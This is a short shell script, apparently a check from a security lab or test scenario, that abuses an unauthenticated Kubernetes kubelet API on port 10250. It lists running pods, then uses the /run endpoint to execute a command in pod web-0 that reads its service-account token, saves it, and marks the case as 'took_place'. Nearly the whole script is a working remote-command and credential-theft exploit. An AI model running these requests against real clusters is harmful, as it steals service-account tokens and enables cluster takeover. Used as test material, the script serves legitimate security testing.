#!/bin/sh
. /opt/case/case.sh

curl -sk http://10.77.0.1:10250/runningpods/ | grep -q PodList
curl -sk -X POST http://10.77.0.1:10250/run/default/web-0/web -d 'cmd=cat /run/secrets/kubernetes.io/serviceaccount/token' -o /tmp/answer
test -s /tmp/answer
took_place
